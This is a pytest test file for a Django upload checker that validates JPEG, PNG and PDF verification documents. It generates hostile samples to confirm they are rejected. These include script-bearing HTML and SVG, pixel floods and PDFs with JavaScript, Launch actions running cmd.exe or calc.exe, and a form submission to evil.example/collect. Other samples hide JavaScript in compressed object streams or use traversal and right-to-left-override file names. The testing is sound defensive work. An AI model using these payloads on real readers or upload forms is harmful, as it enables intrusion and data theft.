"""Tests for the upload checks of verification documents.

Every sample file is generated here; none is committed.
"""

import contextlib
import hashlib
import io
import zipfile
import zlib

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.functional import Promise
from PIL import ExifTags, Image, ImageFile, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from compliance import filecheck
from compliance.filecheck import (
    InspectedFile,
    UploadRejected,
    inspect_upload,
    safe_display_name,
    sanitized_image,
)

TEN_MB = 10 * 1024 * 1024


# --- sample builders -------------------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (40, 30), **save_options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, fmt, **save_options)
    return out.getvalue()


def noisy_jpeg() -> bytes:
    """A JPEG whose scan data is long enough to be cut in the middle."""
    out = io.BytesIO()
    Image.effect_noise((256, 256), 80).convert("RGB").save(out, "JPEG", quality=95)
    return out.getvalue()


def png_chunk(chunk_type: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(chunk_type + payload)
    return len(payload).to_bytes(4, "big") + chunk_type + payload + crc.to_bytes(4, "big")


def png_chunk_types(data: bytes) -> list[bytes]:
    types, pos = [], 8
    while pos < len(data):
        length = int.from_bytes(data[pos : pos + 4], "big")
        types.append(data[pos + 4 : pos + 8])
        pos += 12 + length
    return types


def pixel_flood_png(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge canvas."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_padded_to(total: int) -> bytes:
    """A valid PNG grown to exactly ``total`` bytes by a private ancillary chunk."""
    base = image_bytes("PNG")
    pad = png_chunk(b"prIv", b"\x00" * (total - len(base) - 12))
    return base[:33] + pad + base[33:]  # right after the 8-byte signature and 25-byte IHDR


def pdf_from_writer(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def page_tree(catalog_extra: bytes = b"", page_extra: bytes = b"") -> list[bytes]:
    """Objects 1-3 of a one-page document: catalog, page tree, page."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b" >>",
    ]


def build_pdf(objects: list[bytes], *, unlisted: bytes = b"") -> bytes:
    """A classic PDF-1.4 with an xref table; ``unlisted`` bytes sit outside the xref."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += unlisted
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def simple_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra=(), **kw) -> bytes:
    return build_pdf(page_tree(catalog_extra, page_extra) + list(extra), **kw)


def pdf_with_object_stream(
    hidden: list[bytes], *, catalog_extra: bytes = b"", listed: bool = True
) -> bytes:
    """A PDF-1.5 whose objects 4.. live in a Flate-compressed /ObjStm, indexed by an xref stream.

    With ``listed=False`` the xref stream marks those objects free, so only a scan of
    the decompressed object stream can see them.
    """
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(page_tree(catalog_extra), start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    first_hidden = 4
    positions, bodies = [], b""
    for index, body in enumerate(hidden):
        positions.append(b"%d %d" % (first_hidden + index, len(bodies)))
        bodies += body + b"\n"
    index_line = b" ".join(positions) + b"\n"
    packed = zlib.compress(index_line + bodies)
    stream_number = first_hidden + len(hidden)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(hidden),
        len(index_line),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = [bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(bytes([1]) + offsets[number].to_bytes(4, "big") + bytes(2))
        elif listed:
            slot = number - first_hidden
            rows.append(bytes([2]) + stream_number.to_bytes(4, "big") + slot.to_bytes(2, "big"))
        else:
            rows.append(bytes([0]) + bytes(4) + (1).to_bytes(2, "big"))
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def rejection(data: bytes, **limits) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(io.BytesIO(data), **limits)
    return caught.value


@pytest.fixture
def english():
    """Render lazy messages; standalone runs have no project settings."""
    if not settings.configured:
        settings.configure(USE_I18N=False)
    with translation.override("en"):
        yield


@pytest.fixture
def decoded(monkeypatch):
    """Record the size of every image whose pixel data gets decoded, in this process
    (Pillow's load) or in the capped decoding process."""
    sizes = []
    original_load = ImageFile.ImageFile.load
    original_decode = filecheck._decoded_clean_copy

    def recording_load(self):
        sizes.append(self.size)
        return original_load(self)

    def recording_decode(data, kind, max_pixels):
        with Image.open(io.BytesIO(data)) as image:  # the header only
            sizes.append(image.size)
        return original_decode(data, kind, max_pixels)

    monkeypatch.setattr(ImageFile.ImageFile, "load", recording_load)
    monkeypatch.setattr(filecheck, "_decoded_clean_copy", recording_decode)
    return sizes


# --- accepted files --------------------------------------------------------------------------


def test_valid_jpeg_is_accepted_with_its_facts():
    data = image_bytes("JPEG", (64, 48))

    inspected = inspect_upload(io.BytesIO(data))

    assert inspected == InspectedFile(
        kind="jpeg",
        content_type="image/jpeg",
        extension=".jpg",
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
        width=64,
        height=48,
        pages=None,
    )


def test_valid_png_is_accepted_with_its_facts():
    data = image_bytes("PNG", (33, 21))

    inspected = inspect_upload(io.BytesIO(data))

    assert (inspected.kind, inspected.content_type, inspected.extension) == (
        "png",
        "image/png",
        ".png",
    )
    assert (inspected.width, inspected.height, inspected.pages) == (33, 21, None)
    assert inspected.size == len(data)
    assert inspected.sha256 == hashlib.sha256(data).hexdigest()


def test_one_page_pdf_written_by_pillow_is_accepted():
    data = image_bytes("PDF", (300, 200))

    inspected = inspect_upload(io.BytesIO(data))

    assert (inspected.kind, inspected.content_type, inspected.extension) == (
        "pdf",
        "application/pdf",
        ".pdf",
    )
    assert (inspected.pages, inspected.width, inspected.height) == (1, None, None)
    assert inspected.size == len(data)
    assert inspected.sha256 == hashlib.sha256(data).hexdigest()


def test_pdf_page_count_is_reported():
    inspected = inspect_upload(io.BytesIO(pdf_from_writer(one_page_writer(pages=3))))

    assert inspected.pages == 3


def test_pdf_opening_at_a_page_is_not_mistaken_for_active_content():
    data = simple_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]")

    assert inspect_upload(io.BytesIO(data)).pages == 1


def test_object_stream_pdf_with_harmless_objects_is_accepted():
    data = pdf_with_object_stream(
        [b"<< /S /GoTo /D [3 0 R /Fit] >>"], catalog_extra=b"/OpenAction 4 0 R"
    )

    assert inspect_upload(io.BytesIO(data)).pages == 1


def test_image_of_exactly_max_side_pixels_is_accepted():
    inspected = inspect_upload(io.BytesIO(image_bytes("PNG", (8000, 1))))

    assert (inspected.width, inspected.height) == (8000, 1)


def test_file_of_exactly_ten_megabytes_is_accepted():
    data = png_padded_to(TEN_MB)

    inspected = inspect_upload(io.BytesIO(data))

    assert inspected.size == TEN_MB
    assert inspected.kind == "png"


def test_name_and_content_type_are_ignored_for_an_accepted_file():
    upload = SimpleUploadedFile("licence.jpg", image_bytes("PDF"), content_type="image/jpeg")

    inspected = inspect_upload(upload)

    assert (inspected.kind, inspected.extension) == ("pdf", ".pdf")


# --- size and reading ------------------------------------------------------------------------


def test_empty_file_is_rejected():
    assert rejection(b"").code == "empty"


def test_ten_megabytes_plus_one_byte_is_rejected_for_size():
    assert rejection(png_padded_to(TEN_MB + 1)).code == "too_large"


def test_size_limit_is_configurable():
    data = image_bytes("PNG")

    assert rejection(data, max_bytes=len(data) - 1).code == "too_large"
    assert inspect_upload(io.BytesIO(data), max_bytes=len(data)).size == len(data)


class EndlessStream(io.RawIOBase):
    """An unbounded upload that counts how much is read from it."""

    def __init__(self) -> None:
        self.bytes_read = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
        return 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "an unbounded read would exhaust memory"
        self.bytes_read += size
        return b"\x00" * size


def test_reading_stops_one_byte_past_the_limit():
    stream = EndlessStream()

    with pytest.raises(UploadRejected) as caught:
        inspect_upload(stream, max_bytes=1_000_000)

    assert caught.value.code == "too_large"
    assert stream.bytes_read == 1_000_001


@pytest.mark.parametrize("data", [image_bytes("JPEG"), b"<html></html>"], ids=["kept", "refused"])
def test_file_position_is_left_at_zero(data):
    upload = io.BytesIO(data)
    upload.seek(3)

    with contextlib.suppress(UploadRejected):
        inspect_upload(upload)

    assert upload.tell() == 0


# --- wrong types -----------------------------------------------------------------------------


def test_html_named_jpg_with_image_content_type_is_rejected():
    upload = SimpleUploadedFile(
        "licence.jpg", b"<html><script>alert(1)</script></html>", content_type="image/jpeg"
    )

    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload)

    assert caught.value.code == "unsupported_type"


def test_zip_named_pdf_is_rejected():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("licence.pdf", b"%PDF-1.4 not really")
    upload = SimpleUploadedFile("licence.pdf", archive.getvalue(), content_type="application/pdf")

    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload)

    assert caught.value.code == "unsupported_type"


def test_svg_with_script_is_rejected():
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

    assert rejection(svg).code == "unsupported_type"


@pytest.mark.parametrize("fmt", ["TIFF", "GIF", "BMP", "WEBP"])
def test_other_image_formats_are_rejected(fmt):
    assert rejection(image_bytes(fmt)).code == "unsupported_type"


def test_png_header_followed_by_html_is_rejected():
    data = b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.cookie)</script></body></html>"

    assert rejection(data).code == "corrupt"


def test_jpeg_magic_followed_by_garbage_is_rejected():
    assert rejection(b"\xff\xd8\xff" + b"not a jpeg at all" * 10).code == "corrupt"


def test_png_with_html_after_its_end_is_rejected():
    data = image_bytes("PNG") + b"<html><script>alert(1)</script></html>"

    assert rejection(data).code == "corrupt"


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"GIF89a" + b"\x00" * 20, "a GIF image"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "an SVG drawing"),
        (b"<!DOCTYPE html><html></html>", "a web page (HTML)"),
        (b"PK\x03\x04" + b"\x00" * 20, "a ZIP archive or an Office document"),
        (b"just some notes", "a text file"),
        (b"\x00\x01\x02\xfe\xff", "of a type we do not recognise"),
    ],
)
def test_wrong_type_message_says_what_the_file_is(english, data, kind):
    refused = rejection(data)

    assert str(refused) == f"Only JPEG, PNG or PDF files are accepted; this file is {kind}."


def test_rejection_message_is_lazy_and_code_is_stable(english):
    refused = rejection(b"")

    assert isinstance(refused.message, Promise)
    assert refused.code == "empty"
    assert str(refused) == "The file is empty."


def test_size_message_names_the_limit(english):
    assert str(rejection(png_padded_to(TEN_MB + 1))) == (
        "The file is larger than 10 MB; please upload a smaller one."
    )


# --- pixel floods ----------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "height"), [(100_000, 100_000), (8001, 1), (1, 8001)])
def test_pixel_flood_is_rejected_before_decoding(decoded, width, height):
    assert rejection(pixel_flood_png(width, height)).code == "too_many_pixels"
    assert decoded == []


def test_real_image_one_pixel_too_wide_is_rejected():
    assert rejection(image_bytes("JPEG", (8001, 8))).code == "too_many_pixels"


def test_max_side_is_configurable():
    assert rejection(image_bytes("PNG", (101, 10)), max_side=100).code == "too_many_pixels"


def test_decompression_bomb_warning_is_treated_as_an_error(monkeypatch, decoded):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # 40×40 warns, 2000+ would raise

    assert rejection(image_bytes("PNG", (40, 40))).code == "too_many_pixels"
    assert decoded == []


def test_accepted_image_is_fully_decoded(decoded):
    inspected = inspect_upload(io.BytesIO(image_bytes("JPEG", (64, 48))))

    assert decoded == [(64, 48)]
    with Image.open(io.BytesIO(inspected.sanitized)) as copy:
        assert (copy.format, copy.size) == ("JPEG", (64, 48))


def test_image_decoding_is_refused_past_its_memory_cap(monkeypatch, english):
    # 20 megapixels of RGB need about 120 MB to decode and re-encode; the decoding
    # process is given 100, so it runs out and the upload is refused, not the worker.
    monkeypatch.setattr(filecheck, "_DECODE_MEMORY_BYTES", 100 * 1024 * 1024)
    assert inspect_upload(io.BytesIO(image_bytes("PNG", (640, 480)))).sanitized

    refused = rejection(image_bytes("PNG", (5000, 4000)))

    assert refused.code == "too_costly"
    assert "lower resolution" in str(refused)


def test_image_within_its_caps_is_decoded_out_of_process_and_cleaned():
    inspected = inspect_upload(io.BytesIO(image_bytes("PNG", (2480, 3508))))

    with Image.open(io.BytesIO(inspected.sanitized)) as copy:
        assert (copy.format, copy.size) == ("PNG", (2480, 3508))


def test_pixel_message_gives_the_dimensions(english):
    assert str(rejection(pixel_flood_png(9000, 20))) == (
        "The image is 9000 × 20 pixels; at most 8000 pixels on each side are accepted."
    )


# --- truncated and damaged files -------------------------------------------------------------


def test_truncated_jpeg_is_rejected():
    data = noisy_jpeg()

    assert rejection(data[: len(data) * 2 // 3]).code == "truncated"


def test_truncated_png_is_rejected():
    out = io.BytesIO()
    Image.effect_noise((128, 128), 80).save(out, "PNG")
    data = out.getvalue()

    assert rejection(data[: len(data) * 2 // 3]).code == "truncated"


def test_jpeg_cut_inside_its_header_is_rejected():
    assert rejection(noisy_jpeg()[:100]).code == "corrupt"


def test_png_with_a_damaged_chunk_checksum_is_rejected():
    data = bytearray(image_bytes("PNG"))
    data[29] ^= 0xFF  # last byte of the IHDR checksum

    assert rejection(bytes(data)).code == "corrupt"


def test_object_streams_inflating_beyond_the_budget_are_rejected(monkeypatch):
    monkeypatch.setattr(filecheck, "_MAX_OBJECT_STREAM_BYTES", 1000)
    data = pdf_with_object_stream([b"<< /S /GoTo /D [3 0 R /Fit] >>" + b" " * 5000])

    assert rejection(data).code == "corrupt"


def test_truncated_pdf_is_rejected():
    data = pdf_from_writer(one_page_writer())

    assert rejection(data[: len(data) // 2]).code == "truncated"


def test_pdf_with_more_than_a_kilobyte_after_eof_is_rejected():
    assert rejection(pdf_from_writer(one_page_writer()) + b" " * 2048).code == "truncated"


def test_unparseable_pdf_is_rejected():
    assert rejection(b"%PDF-1.7\n" + b"garbage " * 40 + b"\n%%EOF\n").code == "corrupt"


def test_pdf_without_pages_is_rejected():
    assert rejection(pdf_from_writer(PdfWriter())).code == "pdf_no_pages"


def test_encrypted_pdf_is_rejected():
    writer = one_page_writer()
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")

    assert rejection(pdf_from_writer(writer)).code == "pdf_encrypted"


# --- PDF active content ----------------------------------------------------------------------


def test_pdf_with_javascript_open_action_in_a_plain_object_is_rejected():
    data = simple_pdf(
        catalog_extra=b"/OpenAction 4 0 R",
        extra=[b"<< /Type /Action /S /JavaScript /JS (app.alert('hi')) >>"],
    )

    assert rejection(data).code == "pdf_active_content"


def test_pdf_with_document_javascript_written_by_pypdf_is_rejected():
    writer = one_page_writer()
    writer.add_open_action(JavaScript("this.print({bUI:false});"))

    assert rejection(pdf_from_writer(writer)).code == "pdf_active_content"


def test_pdf_with_javascript_hidden_in_compressed_object_stream_is_rejected():
    data = pdf_with_object_stream(
        [b"<< /Type /Action /S /JavaScript /JS (app.alert('hi')) >>"],
        catalog_extra=b"/OpenAction 4 0 R",
    )

    assert b"JavaScript" not in data and b"/JS" not in data  # only visible once inflated
    assert rejection(data).code == "pdf_active_content"


def test_object_stream_javascript_is_found_through_the_xref_alone(monkeypatch):
    monkeypatch.setattr(filecheck, "_names_in_object_streams", lambda reader, data: iter(()))
    data = pdf_with_object_stream(
        [b"<< /S /JavaScript /JS (app.alert('hi')) >>"], catalog_extra=b"/OpenAction 4 0 R"
    )

    assert rejection(data).code == "pdf_active_content"


def test_object_stream_javascript_left_out_of_the_xref_is_found_by_inflating_the_stream():
    data = pdf_with_object_stream(
        [b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /JavaScript /JS (app.alert('hi')) >>"],
        listed=False,
    )

    assert rejection(data).code == "pdf_active_content"


@pytest.mark.parametrize("listed", [True, False], ids=["listed", "unlisted"])
def test_object_stream_launch_is_found_by_inflating_the_stream_alone(monkeypatch, listed):
    monkeypatch.setattr(filecheck, "_names_in_listed_objects", lambda reader: iter(()))
    data = pdf_with_object_stream([b"<< /S /Launch /F (cmd.exe) >>"], listed=listed)

    assert b"Launch" not in data
    assert rejection(data).code == "pdf_active_content"


def test_pdf_with_launch_action_is_rejected():
    data = simple_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (calc.exe) >>")

    assert rejection(data).code == "pdf_active_content"


@pytest.mark.parametrize("action", [b"GoToR", b"GoToE"])
def test_pdf_with_action_opening_another_file_is_rejected(action):
    data = simple_pdf(
        catalog_extra=b"/OpenAction << /S /"
        + action
        + b" /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>"
    )

    assert rejection(data).code == "pdf_active_content"


def test_pdf_with_hex_escaped_launch_name_is_rejected():
    data = simple_pdf(catalog_extra=b"/OpenAction << /S /L#61unch /F (calc.exe) >>")

    assert rejection(data).code == "pdf_active_content"


@pytest.mark.parametrize(
    "page_extra",
    [
        b"/AA << /O << /S /SubmitForm /F (https://evil.example/collect) >> >>",
        b"/AA << /C << /S /ImportData /F (data.fdf) >> >>",
        b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>",
    ],
    ids=["submit-form", "import-data", "javascript"],
)
def test_pdf_with_page_additional_action_is_rejected(page_extra):
    assert rejection(simple_pdf(page_extra=page_extra)).code == "pdf_active_content"


def test_pdf_with_javascript_name_tree_is_rejected():
    data = simple_pdf(
        catalog_extra=b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>",
        extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
    )

    assert rejection(data).code == "pdf_active_content"


def test_unreferenced_javascript_object_is_still_rejected():
    data = simple_pdf(extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"])

    assert rejection(data).code == "pdf_active_content"


def test_javascript_object_outside_the_xref_is_still_rejected():
    data = simple_pdf(unlisted=b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")

    assert rejection(data).code == "pdf_active_content"


def test_pdf_with_rich_media_annotation_is_rejected():
    annotation = b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>]"

    assert rejection(simple_pdf(page_extra=annotation)).code == "pdf_active_content"


def test_pdf_with_xfa_form_is_rejected():
    data = simple_pdf(catalog_extra=b"/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>")

    assert rejection(data).code == "pdf_active_content"


def test_pdf_with_embedded_files_name_tree_is_rejected():
    writer = one_page_writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00")

    assert rejection(pdf_from_writer(writer)).code == "pdf_embedded_file"


def test_pdf_with_file_attachment_annotation_is_rejected():
    annotation = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]"
    data = simple_pdf(page_extra=annotation, extra=[b"<< /Type /Filespec /F (a.exe) >>"])

    assert rejection(data).code == "pdf_embedded_file"


def test_active_content_message_names_the_feature(english):
    data = simple_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (calc.exe) >>")

    assert "an action that starts another program" in str(rejection(data))


# --- sanitized images ------------------------------------------------------------------------


def test_sanitized_jpeg_has_no_metadata_and_is_turned_upright():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # stored sideways: rotate 90° clockwise to view
    exif[ExifTags.Base.Make] = "SpyCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (23.0, 7.0, 30.0)
    picture = Image.new("RGB", (60, 30), "blue")
    picture.paste("red", (0, 0, 30, 30))  # left half red
    original = io.BytesIO()
    picture.save(original, "JPEG", exif=exif, comment=b"internal note", icc_profile=b"icc-bytes")

    cleaned = sanitized_image(original, "jpeg")

    result = Image.open(io.BytesIO(cleaned))
    assert result.format == "JPEG"
    assert result.size == (30, 60)
    assert len(result.getexif()) == 0
    assert not {"exif", "comment", "icc_profile"} & set(result.info)
    for secret in (b"Exif", b"SpyCam", b"internal note", b"icc-bytes"):
        assert secret not in cleaned
    red, _, blue = result.convert("RGB").getpixel((15, 5))  # the left half is now on top
    assert red > 200 and blue < 60


def test_sanitized_png_has_no_text_exif_or_icc_chunks():
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "agent 007")
    text.add_text("Comment", "internal note", zip=True)
    text.add_itxt("Title", "营业执照")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyCam"
    original = io.BytesIO()
    Image.new("RGBA", (20, 10), (0, 128, 0, 200)).save(
        original, "PNG", pnginfo=text, exif=exif, icc_profile=b"icc-bytes"
    )
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP"} <= set(
        png_chunk_types(original.getvalue())
    )

    cleaned = sanitized_image(original, "png")

    assert set(png_chunk_types(cleaned)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    result = Image.open(io.BytesIO(cleaned))
    assert (result.format, result.size, result.mode) == ("PNG", (20, 10), "RGBA")
    assert result.getpixel((0, 0)) == (0, 128, 0, 200)


def test_sanitized_palette_png_keeps_its_transparency():
    picture = Image.new("P", (4, 4), 1)
    picture.putpalette([0, 0, 0, 255, 0, 0])
    original = io.BytesIO()
    picture.save(original, "PNG", transparency=0)

    result = Image.open(io.BytesIO(sanitized_image(original, "png")))

    assert result.convert("RGBA").getpixel((0, 0)) == (255, 0, 0, 255)


def test_sanitized_image_refuses_pdf():
    with pytest.raises(ValueError):
        sanitized_image(io.BytesIO(image_bytes("PDF")), "pdf")


# --- display names ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../x.jpg", "x.jpg"),
        ("a.jpg.php", "a.jpg.php"),  # shown as sent; the stored name comes from the content
        ("C:\\evil\\x.pdf", "x.pdf"),
        ("\x00\x1f.jpg", "document.jpg"),
        ("", "document"),
        ("..", "document"),
        ("/", "document"),
        ("营业执照 2024.jpg", "营业执照 2024.jpg"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("line\nbreak.png", "linebreak.png"),
    ],
)
def test_safe_display_name(name, shown):
    assert safe_display_name(name) == shown


def test_safe_display_name_shortens_to_120_characters_keeping_the_extension():
    shown = safe_display_name("a" * 296 + ".pdf")

    assert len(shown) == 120
    assert shown == "a" * 116 + ".pdf"


def test_safe_display_name_shortens_a_name_with_an_overlong_extension():
    shown = safe_display_name("x." + "b" * 300)

    assert 0 < len(shown) <= 120
